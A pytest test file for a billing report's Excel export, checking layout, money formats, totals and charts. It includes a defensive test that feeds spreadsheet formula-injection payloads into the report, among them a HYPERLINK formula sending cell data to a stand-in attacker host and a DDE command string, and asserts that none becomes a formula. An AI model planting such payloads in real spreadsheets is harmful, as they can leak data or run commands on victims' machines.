"""The workbook, read back with openpyxl: values, types, formats, layout, chart, formula safety."""

from __future__ import annotations

from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from credits_cli import ledger, tenants
from credits_cli.reports import build as report
from credits_cli.reports import guard, xlsx
from tests import reportdata

D = Decimal
MONEY = '#,##0.0000 "USD"'
SHEETS = ["Summary", "Daily", "Users", "Destinations", "Pools", "Ledger", "Calls"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2",
    "@SUM(A1)",
    "=1+1",
    "#N/A",
    "\tTAB",
    "=cmd|' /C calc'!A0",
    "bell\x07name",
]


def _write(tmp_path: Path, per=("2026-11-01", "2026-11-30")) -> tuple[Path, report.Report, list]:
    out = tmp_path / "report.xlsx"
    db = reportdata.database()
    with db.read() as s:
        t = tenants.resolve(s, "contoso")
        p = report.period(*per)
        r = report.build(s, t, p)
        xlsx.write(out, r, report.iter_calls(s, t, p), report.iter_ledger(s, t, p, r.opening))
        entries = ledger.entries(s, t, p.start, p.end)
    return out, r, entries


def dec(value) -> Decimal:
    assert isinstance(value, int | float) and not isinstance(value, bool), repr(value)
    return Decimal(str(value))


def column(ws, header: str) -> int:
    return [c.value for c in ws[1]].index(header) + 1


@pytest.fixture
def seeded(tenant, monkeypatch):
    monkeypatch.setenv("CREDITS_NOW", "2026-11-30T12:00:00Z")
    reportdata.seed()


def test_sheets_layout(seeded, tmp_path):
    out, r, _ = _write(tmp_path)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == SHEETS
    for ws in wb:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
        assert ws.column_dimensions["A"].width and ws.column_dimensions["A"].width >= 10, ws.title
        assert all(c.font.bold for c in ws[1]), ws.title
    daily = wb["Daily"]
    assert daily.auto_filter.ref == "A1:J31"  # header + 30 days; the totals row is below the filter
    assert daily.cell(32, 1).value == "Total"


def test_daily_chart(seeded, tmp_path):
    out, _, _ = _write(tmp_path)
    wb = openpyxl.load_workbook(out)
    charts = wb["Daily"]._charts
    assert len(charts) == 1
    chart = charts[0]
    assert chart.tagname == "barChart"
    ref = chart.series[0].val.numRef.f
    assert ref == "'Daily'!$F$2:$F$31"
    assert chart.series[0].cat.numRef.f == "'Daily'!$A$2:$A$31"
    for ws in wb:
        if ws.title != "Daily":
            assert ws._charts == []


def test_money_is_numbers_in_currency_format(seeded, tmp_path):
    out, r, entries = _write(tmp_path)
    wb = openpyxl.load_workbook(out)
    calls = wb["Calls"]
    col = column(calls, "Charge (USD)")
    charges = []
    for row in calls.iter_rows(min_row=2, min_col=col, max_col=col):
        cell = row[0]
        assert cell.data_type == "n" and cell.number_format == MONEY
        charges.append(dec(cell.value))
    assert sum(charges) == D("2.4252") == -sum(e.amount for e in entries if e.kind == "charge")
    start = calls.cell(2, 1)
    assert isinstance(start.value, datetime) and start.value == datetime(2026, 11, 2, 9, 0)
    assert start.is_date
    # every time in the workbook reads the same way: the calls' starts as the ledger's times
    assert {c[0].number_format for c in calls.iter_rows(min_row=2, max_col=1)} == {xlsx.DATETIME_FORMAT}
    led = wb["Ledger"]
    assert column(led, "Amount (USD)") == 5 and column(led, "Balance (USD)") == 6
    rows = list(led.iter_rows(min_row=2, values_only=True))
    assert sum(dec(row[4]) for row in rows) == sum(e.amount for e in entries)
    assert sum(row[3] for row in rows) == len(entries) == 6
    # the two charges of 2 November are one row; the balance after every row is exact
    assert rows[0][1:4] == (None, "charge", 2) and dec(rows[0][4]) == D("-0.53") and dec(rows[0][5]) == D("97.97")
    assert rows[0][0] == datetime(2026, 11, 2, 10, 0) and rows[0][8] == "2 call charges from 09:00:00 to 10:00:00"
    assert rows[1][2:4] == ("charge", 1) and rows[1][7] == "call-6" and dec(rows[1][4]) == D("-1.2345")
    assert rows[3][2] == "topup" and dec(rows[3][5]) == D("146.0755")
    assert [dec(row[5]) for row in rows][-1] == r.closing == D("146.0748")
    assert all(c[0].number_format == MONEY for c in led.iter_rows(min_row=2, min_col=5, max_col=6))
    assert {c[0].number_format for c in led.iter_rows(min_row=2, max_col=1)} == {xlsx.DATETIME_FORMAT}


def test_summary_totals_equal_ledger(seeded, tmp_path):
    out, r, entries = _write(tmp_path)
    ws = openpyxl.load_workbook(out)["Summary"]
    values = {(row[0].value, row[1].value): row[2] for row in ws.iter_rows(min_row=2)}
    opening = values[("Balance", "Opening balance")]
    closing = values[("Balance", "Closing balance")]
    assert opening.number_format == MONEY and dec(opening.value) == D("98.5000")
    assert dec(closing.value) == D("146.0748") == D("98.5000") + sum(e.amount for e in entries)
    assert dec(values[("Balance", "Call charges")].value) == D("-2.4252")
    assert dec(values[("Balance", "Top-ups (1)")].value) == D("50")
    assert dec(values[("Spend by kind", "tollfree")].value) == D("1.2345")
    assert dec(values[("Spend by kind", "Total")].value) == D("2.4252")
    assert values[("Calls by status", "denied")].value == 2
    assert values[("Denied calls", "unlicensed")].value == 1
    assert dec(values[("Check", "Opening + movements - closing (always 0)")].value) == 0
    frm = values[("Report", "From")]
    assert isinstance(frm.value, datetime) and frm.value == datetime(2026, 11, 1) and frm.is_date


def test_daily_users_destinations_pools(seeded, tmp_path):
    out, r, _ = _write(tmp_path)
    wb = openpyxl.load_workbook(out)
    daily = wb["Daily"]
    spend = [dec(c[0].value) for c in daily.iter_rows(min_row=2, max_row=31, min_col=6, max_col=6)]
    assert sum(spend) == D("2.4252") == dec(daily.cell(32, 6).value)
    assert dec(daily.cell(31, 10).value) == D("146.0748")  # closing balance of the 30th
    assert daily.cell(2, 1).is_date and daily.cell(2, 1).number_format == "yyyy-mm-dd"
    users = wb["Users"]
    rows = list(users.iter_rows(min_row=2, values_only=True))
    assert rows[0][0] == "(no user)" and dec(rows[0][8]) == D("1.2345")
    assert rows[2][:2] == ("alice@contoso.com", "Alice Archer") and dec(rows[2][8]) == D("0.5307")
    assert rows[-1][0] == "Total" and dec(rows[-1][8]) == D("2.4252")
    assert users.cell(2, 9).number_format == MONEY and users.cell(2, 10).number_format == "0.00%"
    dest = wb["Destinations"]
    rows = list(dest.iter_rows(min_row=2, values_only=True))
    assert rows[0][:4] == ("tollfree", "1800", "US toll-free", "US")
    assert rows[-1][0] == "Total" and dec(rows[-1][8]) == D("2.4252")
    pools = list(wb["Pools"].iter_rows(min_row=2, values_only=True))
    assert pools[0][:2] == ("2026-11", "dialout") and dec(pools[0][2]) == 60 and dec(pools[0][5]) == D("0.8")


def test_hostile_text_never_becomes_a_formula(tenant, monkeypatch, tmp_path):
    monkeypatch.setenv("CREDITS_NOW", "2026-11-30T12:00:00Z")
    calls = [
        reportdata.CallSpec(datetime(2026, 11, 3, 9, n), name, "outbound", name, "charged", D("0.0100"), name, name,
                            name, reason=name, external_id=f"{name}#{n}")
        for n, name in enumerate(HOSTILE)
    ]
    reportdata.seed(calls=calls, topups=[(datetime(2026, 11, 1), D("50"))], pools=False)
    db = reportdata.database()

    def rename(s):
        import sqlalchemy as sa

        from credits_cli.models import User

        s.execute(sa.update(User.__table__).values(name=HOSTILE[0]))

    db.write(rename)
    out, r, _ = _write(tmp_path)
    wb = openpyxl.load_workbook(out)
    seen = set()
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert cell.data_type != "e", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
                    if cell.value[:1] in "=+-@\t":
                        assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    for name in HOSTILE:
        if name == "bell\x07name":
            assert "bell\ufffdname" in seen
        else:
            assert name in seen, name
    calls_ws = wb["Calls"]
    user_col = column(calls_ws, "User")
    assert calls_ws.cell(2, user_col).value == HOSTILE[0]
    assert calls_ws.cell(2, user_col).data_type == "s"
    # the raw XML holds no <f> element at all
    import zipfile

    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def test_calls_continue_on_further_sheets(seeded, tmp_path, monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_ROWS", 5)  # 4 data rows a sheet
    out, r, entries = _write(tmp_path)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == SHEETS[:5] + ["Ledger", "Ledger (2)", "Calls", "Calls (2)", "Calls (3)"]
    ids = []
    for title in ("Calls", "Calls (2)", "Calls (3)"):
        ws = wb[title]
        assert ws.freeze_panes == "A2" and ws.cell(1, 1).value == "Start (UTC)"
        rows = list(ws.iter_rows(min_row=2, values_only=True))
        assert len(rows) <= 4
        assert ws.auto_filter.ref == f"A1:S{len(rows) + 1}"
        ids += [row[1] for row in rows]
    assert len(ids) == r.calls == 9 and len(set(ids)) == 9
    assert len(list(wb["Ledger"].iter_rows(min_row=2))) == 4
    assert len(list(wb["Ledger (2)"].iter_rows(min_row=2))) == 1  # 6 entries, 5 rows: 2 November's run is one


def test_failed_write_leaves_nothing(seeded, tmp_path):
    folder = tmp_path / "out"
    folder.mkdir()
    out = folder / "report.xlsx"
    db = reportdata.database()

    def broken():
        yield from ()
        raise RuntimeError("disk full")

    with db.read() as s:
        t = tenants.resolve(s, "contoso")
        p = report.period("2026-11-01", "2026-11-30")
        r = report.build(s, t, p)
        with pytest.raises(RuntimeError):
            xlsx.write(out, r, broken(), iter(()))
    assert list(folder.iterdir()) == []


def test_printing_fits_the_page_width(seeded, tmp_path):
    out, _, _ = _write(tmp_path)
    wb = openpyxl.load_workbook(out)
    for ws in wb:
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0, ws.title
        assert ws.print_title_rows == "$1:$1", ws.title
    assert wb["Calls"].page_setup.orientation == "landscape"


from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=8))
def test_any_text_reads_back_as_text(tmp_path_factory, texts):
    """Whatever a call record holds comes back as the same text (control characters aside), never a formula."""
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    cells = xlsx._Cells(wb, "USD")
    ws = cells.ws
    for text in texts:
        ws.append([cells.text(ws, text)])
    out = tmp_path_factory.mktemp("h") / "t.xlsx"
    wb.save(out)
    back = openpyxl.load_workbook(out)["Summary"]
    got = [row[0] for row in back.iter_rows()]
    assert len(got) == len(texts)
    for cell, text in zip(got, texts, strict=True):
        assert cell.data_type == "s", (text, cell.data_type)
        expected = guard.xml_clean(text)
        # XML keeps \r as \n and may not keep a lone trailing/leading whitespace-only string exactly
        assert cell.value is not None
        assert cell.value.replace("\r", "\n") == expected.replace("\r\n", "\n").replace("\r", "\n"), (text, cell.value)
